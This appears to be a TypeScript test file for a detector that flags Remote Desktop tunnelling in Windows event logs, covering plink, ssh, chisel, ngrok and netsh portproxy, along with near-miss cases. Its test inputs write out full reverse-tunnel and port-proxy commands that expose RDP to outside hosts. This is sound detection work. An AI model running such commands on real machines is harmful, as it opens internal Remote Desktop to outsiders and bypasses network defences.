/**
 * `rdp-tunnel`'s tool and far end (issue 36): the commands that forward Remote Desktop as plink, ssh, chisel, ngrok
 * and netsh write them, the sample (plink with -R, a failed and a successful sign-in through it) and its near miss
 * (an IPv6 link-local LAN client, ssh with no forwarding), and the real sbousseaden tunnel log with Security 5156.
 */
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { rdpTunnel } from '../../patterns/findings/rdp-tunnel.js';
import { ATTACK_FINDINGS } from '../../patterns/index.js';
import { neededForAnalysis } from '../../src/diagnose/analysis-reads.js';
import { tunnelCommand } from '../../src/diagnose/attacks/tunnel-tools.js';
import type { Finding } from '../../src/model/attempt.js';
import { ROOT, rdpdiag } from '../helpers/cli.js';
import { CORPUS, corpusPath, HAVE_CORPUS, NO_CORPUS_REASON } from '../helpers/corpus.js';
import { expectSampleFiles } from '../helpers/findings.js';
import { eventsFromXml, sampleXml } from '../helpers/pipeline.js';

const FOLDER = 'samples/findings/rdp-tunnel';
/** The port proxy scenario's logs (its expected.json is no log). */
const FAR_END = readdirSync(join(ROOT, 'samples/portproxy-far-end'))
  .filter((f) => f.endsWith('.xml'))
  .map((f) => `samples/portproxy-far-end/${f}`);

interface JsonReport {
  attempts: { id: string; outcome: string; client: { address?: string } }[];
  findings: Finding[];
}

async function tunnels(...files: string[]): Promise<{ json: JsonReport; found: Finding[] }> {
  const r = await rdpdiag(['analyze', '--format', 'json', ...files]);
  expect(r.stderr).toBe('');
  const json = JSON.parse(r.stdout) as JsonReport;
  return { json, found: json.findings.filter((f) => f.id === rdpTunnel.id) };
}

describe('rdp-tunnel: its home as data', () => {
  it('is an attack finding with ATT&CK T1572, references, false positives, a sample and a near miss', () => {
    expect(ATTACK_FINDINGS).toContain(rdpTunnel);
    expect(rdpTunnel.techniques.map((t) => t.technique.id)).toContain('T1572');
    expectSampleFiles(rdpTunnel);
  });
});

describe('rdp-tunnel: the commands that forward Remote Desktop', () => {
  it.each([
    ['plink.exe -ssh -R 3389:127.0.0.1:3389 -P 443 -l u -pw x 203.0.113.50', '203.0.113.50:443'],
    ['"C:\\Tools\\plink.exe" -R 127.0.0.1:13389:127.0.0.1:3389 jump@198.51.100.7', 'jump@198.51.100.7'],
    ['ssh.exe -N -R 3389:localhost:3389 -p 2222 op@203.0.113.9', 'op@203.0.113.9:2222'],
    ['ssh -L 13389:10.0.0.5:3389 gw.example.test', 'gw.example.test'],
    ['chisel.exe client 203.0.113.80:8080 R:3389:127.0.0.1:3389', '203.0.113.80:8080'],
    ['ngrok.exe tcp 3389', "ngrok's service"],
  ])('%s: far end %s', (command, farEnd) => {
    expect(tunnelCommand(command)).toEqual({ forwards: true, farEnd });
  });

  it('netsh interface portproxy: where it listens', () => {
    expect(
      tunnelCommand(
        'netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress=127.0.0.1',
      ),
    ).toEqual({ forwards: true, listens: '0.0.0.0:4444', toRdp: '0.0.0.0:4444 → 127.0.0.1:3389' });
  });

  it.each([
    ['netsh i p a v l=8001 c=10.20.0.15 connectp=3389', '*:8001 → 10.20.0.15:3389'],
    ['netsh int portp add v4tov4 8001 10.20.0.15 3389 0.0.0.0', '0.0.0.0:8001 → 10.20.0.15:3389'],
    [
      'netsh.exe interface portproxy set v4tov4 listenp=9001 connecta=srv05 connectp=ms-wbt-server',
      '*:9001 → srv05:3389',
    ],
    [
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp /v 0.0.0.0/8002 /d 127.0.0.1/3389 /f',
      '0.0.0.0:8002 → 127.0.0.1:3389',
    ],
    [
      "New-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp' -Name '0.0.0.0/8003' -Value '10.0.0.9/3389'",
      '0.0.0.0:8003 → 10.0.0.9:3389',
    ],
    [
      'Set-NetPortProxy -ListenPort 8004 -ConnectAddress 10.0.0.9 -ConnectPort 3389 # portproxy',
      '*:8004 → 10.0.0.9:3389',
    ],
  ])('a port proxy however written: %s', (command, toRdp) => {
    expect(tunnelCommand(command)).toMatchObject({ forwards: true, toRdp });
  });

  it.each([
    // A port proxy to another service, or one only shown.
    ['netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.20.0.30 connectport=80'],
    ['netsh i p s all'],
    ['netsh i p a v l=8443 c=10.20.0.31 connectp=443'],
    ['ssh.exe build@10.30.0.40 make release'],
    ['plink.exe -ssh -L 8080:intranet:80 user@203.0.113.50'],
    ['netsh interface portproxy show all'],
  ])('forwards nothing to Remote Desktop: %s', (command) => {
    expect(tunnelCommand(command)?.forwards ?? false).toBe(false);
  });
});

describe('rdp-tunnel on its samples', () => {
  it('plink -R: the tool, who started it, when, its far end; the failed sign-in through it is the tunnel’s', async () => {
    const { json, found } = await tunnels(`${FOLDER}/plink.xml`);
    const [f, ...more] = found;
    expect(more).toEqual([]);
    expect(f.tunnel?.tools).toEqual([
      {
        image: 'plink.exe',
        path: 'C:\\Users\\dev01\\AppData\\Local\\Temp\\plink.exe',
        command: 'plink.exe -ssh -R 3389:127.0.0.1:3389 -P 22 -l tun -batch 203.0.113.50',
        by: 'CORP\\dev01',
        started: '2025-06-17T22:41:02.1180000Z',
        farEnd: '203.0.113.50:22',
        toRdp: '127.0.0.1 → 127.0.0.1:3389',
        forwarded: 2,
      },
    ]);
    expect(f.attempts).toEqual(json.attempts.map((a) => a.id));
    expect(json.attempts.map((a) => a.outcome)).toEqual(['failed', 'succeeded']);
    expect(f.explanation).toMatch(/Block 203\.0\.113\.50:22 next/);
    expect(f.confidence).toBe(0.9);
  });

  it('the near miss: an IPv6 link-local LAN client and ssh with no forwarding make no tunnel', async () => {
    const { json, found } = await tunnels(`${FOLDER}/near-miss.xml`);
    expect(found).toEqual([]);
    expect(json.attempts.map((a) => a.outcome)).toEqual(['succeeded']);
  });

  it('the near miss: a local mstsc to 127.0.0.2 named by RDPClient 1024, and a machine account from ::1, make no tunnel', async () => {
    const { json, found } = await tunnels(`${FOLDER}/near-miss-local-mstsc.xml`);
    expect(found).toEqual([]);
    expect(json.attempts.map((a) => [a.client.address, a.outcome])).toEqual([
      ['127.0.0.1', 'succeeded'],
      ['::1', 'succeeded'],
    ]);
  });

  it('a loopback logon with no local mstsc before it is still a tunnel (the rule is the 1024, not the address)', async () => {
    const xml = sampleXml(`${FOLDER}/near-miss-local-mstsc.xml`).replace(
      /<Value>127\.0\.0\.2<\/Value>|'Value'>127\.0\.0\.2</g,
      "'Value'>127.0.0.1:13389<",
    );
    const dir = mkdtempSync(join(tmpdir(), 'rdp-tunnel-'));
    const file = join(dir, 'forwarded.xml');
    writeFileSync(file, xml);
    const { found } = await tunnels(file);
    expect(found.map((f) => f.attempts)).toEqual([['A001']]);
  });

  it('port proxies: abbreviated netsh and its forwarded connections counted; a registry value named by the process records', async () => {
    const { json, found } = await tunnels(`${FOLDER}/portproxy.xml`);
    const by = new Map(found.map((f) => [f.computer.split('.')[0], f]));
    expect(by.get('JUMP-FS02')?.tunnel?.tools).toEqual([
      expect.objectContaining({
        image: 'portproxy',
        by: 'CORP\\t.lindqvist',
        command: 'netsh i p a v l=8001 c=10.20.0.15 connectp=3389',
        toRdp: '*:8001 → 10.20.0.15:3389',
        forwarded: 2,
      }),
    ]);
    const app = by.get('SRV-APP11')!;
    expect(app.tunnel?.tools).toEqual([
      expect.objectContaining({
        image: 'portproxy',
        by: 'CORP\\h.kraus',
        toRdp: '0.0.0.0:8002 → 127.0.0.1:3389',
        forwarded: 2,
      }),
    ]);
    expect(app.attempts).toEqual(json.attempts.map((a) => a.id));
    expect(app.explanation).toMatch(/2 forwarded connections in the logs/);
  });

  it('plink: every forwarded connection is cited, not the first alone', async () => {
    const { found } = await tunnels(`${FOLDER}/plink.xml`);
    const forwarded = found[0]!.evidence.filter((e) => e.eventId === 5156 && /3389/.test(JSON.stringify(e)));
    expect(found[0]!.tunnel?.tools[0]?.forwarded).toBe(2);
    expect(forwarded.map((e) => e.time)).toEqual(['2025-06-17T22:44:10.0200000Z', '2025-06-17T22:44:40.0200000Z']);
  });

  it('a port proxy’s far end: who came into its listen port (5156 inbound), when, and the logon each made inside', async () => {
    const { json, found } = await tunnels(...FAR_END);
    const by = new Map(found.map((f) => [f.computer.split('.')[0], f]));
    const jump = by.get('JUMP-GW03')!;
    const [tool, ...others] = jump.tunnel!.tools;
    expect(others).toEqual([]);
    expect(tool).toMatchObject({
      image: 'portproxy',
      by: 'CORP\\svc.deploy',
      toRdp: '*:8443 → 192.0.2.41:3389',
      forwarded: 3,
      usedBy: [
        {
          address: '203.0.113.77',
          first: '2025-09-16T21:14:10.1000000Z',
          last: '2025-09-16T21:31:44.8000000Z',
          connections: 2,
        },
        {
          address: '198.51.100.23',
          first: '2025-09-16T22:05:02.0000000Z',
          last: '2025-09-16T22:05:02.0000000Z',
          connections: 1,
        },
      ],
    });
    const inside = json.attempts.filter((a) => a.client.address === '192.0.2.8').map((a) => a.id);
    expect(tool!.reached?.map((r) => [r.attempt, r.user, r.outcome, r.client])).toEqual([
      [inside[0], 'CORP\\svc.deploy', 'succeeded', '203.0.113.77'],
      [inside[1], 'CORP\\administrator', 'failed', '203.0.113.77'],
      [inside[2], 'CORP\\svc.deploy', 'succeeded', '198.51.100.23'],
    ]);
    // The proxy's 5156 SourcePort is each logon's 4624/4625 IpPort: every join is by the client port.
    expect(tool!.reached?.map((r) => r.joinedBy)).toEqual(['client-port', 'client-port', 'client-port']);
    expect(jump.attempts).toEqual(inside);
    // Every record of the proxy is cited: its netsh, the three clients in and the three connections on.
    expect(jump.evidence.filter((e) => e.eventId === 5156)).toHaveLength(6);
    expect(jump.explanation).toMatch(/used from 203\.0\.113\.77 \(2 connections/);
    expect(jump.explanation).toMatch(/Block 203\.0\.113\.77, 198\.51\.100\.23 next/);
    // The administrator's proxy to the web server and its user raise nothing.
    expect(JSON.stringify(found)).not.toMatch(/192\.0\.2\.60|8080/);
  });

  it('a forwarded connection is joined to the logon with its own client port, not the latest by time', async () => {
    const { json, found } = await tunnels(`${FOLDER}/portproxy-ports.xml`);
    const [f, ...more] = found;
    expect(more).toEqual([]);
    const users = new Map(json.attempts.map((a) => [a.id, (a as { user?: string }).user]));
    const [tool] = f!.tunnel!.tools;
    // By time alone the first logon (21:14:10.25) would take the second forwarded connection (21:14:11.7, within
    // the two seconds a clock may be off), and the administrator's own mstsc a minute later the same.
    expect(tool!.reached?.map((r) => [users.get(r.attempt), r.client, r.joinedBy])).toEqual([
      ['CORP\\administrator', '203.0.113.77', 'client-port'],
      ['CORP\\svc.deploy', '198.51.100.23', 'client-port'],
    ]);
    const own = json.attempts.find((a) => users.get(a.id) === 'CORP\\s.vogel')!;
    expect(f!.attempts).not.toContain(own.id);
    expect(f!.explanation).not.toMatch(/joined by time/);
  });

  it('where one side names no client port, the join stays by time and the finding says so', async () => {
    // The proxy's records without their source ports (an export that dropped the field).
    const xml = sampleXml(`${FOLDER}/portproxy-ports.xml`).replace(/<Data Name='SourcePort'>\d+<\/Data>/g, '');
    const dir = mkdtempSync(join(tmpdir(), 'rdpdiag-ports-'));
    writeFileSync(join(dir, 'no-ports.xml'), xml);
    const { json, found } = await tunnels(join(dir, 'no-ports.xml'));
    const users = new Map(json.attempts.map((a) => [a.id, (a as { user?: string }).user]));
    const [tool] = found[0]!.tunnel!.tools;
    // Today's rule: the latest forwarded connection before each logon, told as a join by time.
    expect(tool!.reached?.map((r) => [users.get(r.attempt), r.client, r.joinedBy])).toEqual([
      ['CORP\\administrator', '198.51.100.23', 'time'],
      ['CORP\\svc.deploy', '198.51.100.23', 'time'],
      ['CORP\\s.vogel', '198.51.100.23', 'time'],
    ]);
    expect(found[0]!.explanation).toMatch(/joined by time alone/);
    expect(found[0]!.explanation).toMatch(/a join by time alone: the client port is not on both sides/);
  });

  it('a port proxy seen only by Sysmon: the client into its port named, its flow the loopback logon’s own', async () => {
    const { json, found } = await tunnels(...FAR_END);
    const lab = found.find((f) => f.computer.startsWith('WS-LAB12'))!;
    expect(lab.tunnel?.tools[0]).toMatchObject({
      by: 'CORP\\p.marsh',
      toRdp: '0.0.0.0:3390 → 127.0.0.1:3389',
      forwarded: 1,
      usedBy: [{ address: '198.51.100.23', connections: 1 }],
    });
    const onLab = json.attempts.filter((a) => lab.attempts?.includes(a.id));
    expect(onLab.map((a) => [a.client.address, a.outcome])).toEqual([['127.0.0.1', 'succeeded']]);
    expect(json.attempts.some((a) => a.client.address === '198.51.100.23')).toBe(false);
  });

  it('plink seen only by Sysmon: the listener’s own records of each forwarded connection are its attempts', async () => {
    const { json, found } = await tunnels(`${FOLDER}/plink-sysmon.xml`);
    // TermService's svchost writes itself as the flow's source (127.0.0.2:3389): the client is the other end.
    expect(json.attempts.map((a) => [a.id, a.client.address, a.outcome])).toEqual([
      ['A001', '127.0.0.1', 'unknown'],
      ['A002', '127.0.0.1', 'unknown'],
    ]);
    const [f, ...more] = found;
    expect(more).toEqual([]);
    expect(f!.attempts).toEqual(['A001', 'A002']);
    expect(f!.tunnel?.tools[0]).toMatchObject({ image: 'plink.exe', farEnd: '203.0.113.66:443', forwarded: 2 });
    expect(f!.evidence.filter((e) => e.eventId === 3).map((e) => e.time)).toEqual([
      '2025-10-09T02:10:05.1000000Z',
      '2025-10-09T02:14:30.5000000Z',
      '2025-10-09T02:31:02.0000000Z',
    ]);
    expect(f!.explanation).toMatch(/2 connections through it reached Remote Desktop \(A001, A002\)/);
  });

  it('plink seen only by Sysmon: a loopback connection on another client port than the tool’s is not its', async () => {
    // The second forwarded connection's listener record names another client port (50799) than plink's (50733).
    const xml = sampleXml(`${FOLDER}/plink-sysmon.xml`).replace(
      "<Data Name='DestinationPort'>50733<",
      "<Data Name='DestinationPort'>50799<",
    );
    expect(xml).toContain('>50799<');
    const dir = mkdtempSync(join(tmpdir(), 'rdpdiag-carried-'));
    writeFileSync(join(dir, 'plink-sysmon.xml'), xml);
    const { json, found } = await tunnels(join(dir, 'plink-sysmon.xml'));
    expect(json.attempts.map((a) => a.id)).toEqual(['A001', 'A002']);
    expect(found[0]!.attempts).toEqual(['A001']);
  });

  it('the near miss: an administrator’s port proxies to a web server (netsh and its registry value) make no tunnel', async () => {
    const { found } = await tunnels(`${FOLDER}/near-miss-portproxy.xml`);
    expect(found).toEqual([]);
  });

  it('reading keeps the tool’s process and connections, not the rest of a busy log', () => {
    const keep = neededForAnalysis();
    const events = eventsFromXml(sampleXml(`${FOLDER}/plink.xml`));
    expect(events.filter((e) => e.eventId === 4688 || e.eventId === 5156).every(keep)).toBe(true);
    const other = eventsFromXml(
      sampleXml(`${FOLDER}/near-miss.xml`)
        .replace(/ssh\.exe/g, 'notepad.exe')
        .replace("<Data Name='DestPort'>22</Data>", "<Data Name='DestPort'>443</Data>"),
    );
    expect(other.filter((e) => e.eventId === 4688 || e.eventId === 5156).some(keep)).toBe(false);
  });
});

describe.skipIf(!HAVE_CORPUS)(`rdp-tunnel on the real tunnel logs (${HAVE_CORPUS ? CORPUS : NO_CORPUS_REASON})`, () => {
  it('DE_RDP_Tunnel_5156: plink.exe started by EXAMPLE\\user01, its far end 10.0.2.18:80, the forwarder into 3389', async () => {
    const { found } = await tunnels(
      corpusPath('sbousseaden__EVTX-ATTACK-SAMPLES/Command and Control/DE_RDP_Tunnel_5156.evtx'),
    );
    const [f, ...more] = found;
    expect(more).toEqual([]);
    expect(f.tunnel?.tools).toEqual([
      expect.objectContaining({
        image: 'plink.exe',
        path: 'C:\\Users\\user01\\Desktop\\plink.exe',
        by: 'EXAMPLE\\user01',
        farEnd: '10.0.2.18:80',
        toRdp: '127.0.0.1 → 127.0.0.2:3389',
      }),
    ]);
  });
});
